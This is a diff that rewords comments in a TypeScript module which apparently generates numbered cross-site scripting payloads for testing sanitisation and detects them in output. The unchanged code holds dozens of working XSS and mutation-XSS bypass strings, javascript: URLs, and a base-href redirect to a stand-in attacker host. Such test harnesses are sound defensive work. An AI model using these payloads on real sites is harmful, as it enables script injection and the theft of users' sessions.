@@ -1,6 +1,6 @@
-/** What somebody might put where a text belongs, to have a script of theirs run; by the script. */
+/** Texts by which an attacker might run a script, as functions of that script. */
 const recipes: readonly ((script: string) => string)[] = [
-  // Elements that are scripts, or come out of what they are put into.
+  // Script elements, or elements that break out of their context.
   (it) => `<script>${it}</script>`,
   (it) => `<ScRiPt >${it}</sCrIpT\t>`,
   (it) => `</script><script>${it}</script>`,
@@ -21,7 +21,7 @@ const recipes: readonly ((script: string) => string)[] = [
   (it) => `<noscript><p title="</noscript><script>${it}</script>">`,
   (it) => `<math><mtext><table><mglyph><style><img src=x onerror=${it}>`,
   (it) => `<svg></p><style><g title="</style><img src=x onerror=${it}>">`,
-  // Handlers that need nobody.
+  // Handlers that need no interaction.
   (it) => `<img src=x onerror=${it}>`,
   (it) => `<img/src=x/onerror=${it}//`,
   (it) => `"><img src=x onerror=${it}>`,
@@ -52,7 +52,7 @@ const recipes: readonly ((script: string) => string)[] = [
   (it) => `<embed src="data:text/html,<script>${it}</script>">`,
   (it) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${it}</script>">`,
   (it) => `<base href=//evil.example/>${it}`,
-  // Addresses, for whoever follows them.
+  // Addresses that run a script when followed.
   (it) => `javascript:${it}`,
   (it) => `JaVaScRiPt:${it}`,
   (it) => `\u0001javascript:${it}`,
@@ -64,7 +64,7 @@ const recipes: readonly ((script: string) => string)[] = [
   (it) => `<svg><a href="javascript:${it}"><text y=9>x</text></a></svg>`,
   (it) => `<form action="javascript:${it}"><button>x</button></form>`,
   (it) => `<form><button formaction="javascript:${it}">x</button></form>`,
-  // What only some reader of the text would make something of: Markdown, templates, scripts, XML, a second decoding.
+  // Texts that only some interpreters run: Markdown, templates, scripts, XML, a second decoding.
   (it) => `[x](javascript:${it})`,
   (it) => `![x](x"onerror="${it})`,
   (it) => `<javascript:${it}>`,
@@ -89,24 +89,24 @@ const recipes: readonly ((script: string) => string)[] = [
 const toNumber = (script: string) => script.replaceAll(/\D/g, '');
 
 export interface Payload {
-  /** What is told when it has run. */
+  /** The id that the payload reports when it runs. */
   readonly id: number;
   readonly text: string;
 }
 
-/** By which way they come in. */
+/** The ways by which payloads come in. */
 export const ways = ['address', 'storage', 'cart', 'answers', 'content'] as const;
 
 export type Way = (typeof ways)[number];
 
-/** Of one way: no two are the same, nor the same as those of another. */
+/** The payloads of one way. No two payloads are equal, also across ways. */
 export const listPayloads = (way: Way): readonly Payload[] =>
   recipes.map((write, index) => {
     const id = ways.indexOf(way) * 100 + index + 1;
     return { id, text: write(`ran(${id})`) };
   });
 
-/** Hands out payloads, one after the other, round and round. */
+/** Hands out payloads round-robin. */
 export const dealPayloads = (payloads: readonly Payload[]) => {
   let next = 0;
   return (): string => {
@@ -116,6 +116,6 @@ export const dealPayloads = (payloads: readonly Payload[]) => {
   };
 };
 
-/** Ids of payloads whose script stands in a text, whatever has become of the rest of them. */
+/** Ids of payloads whose script is in a text, even if the rest of the payload is changed. */
 export const findPayloads = (text: string): ReadonlySet<number> =>
   new Set([...text.matchAll(/(?:ran\(|evil\.example\/)(\d+)/g)].map(([, id]) => Number(id)));
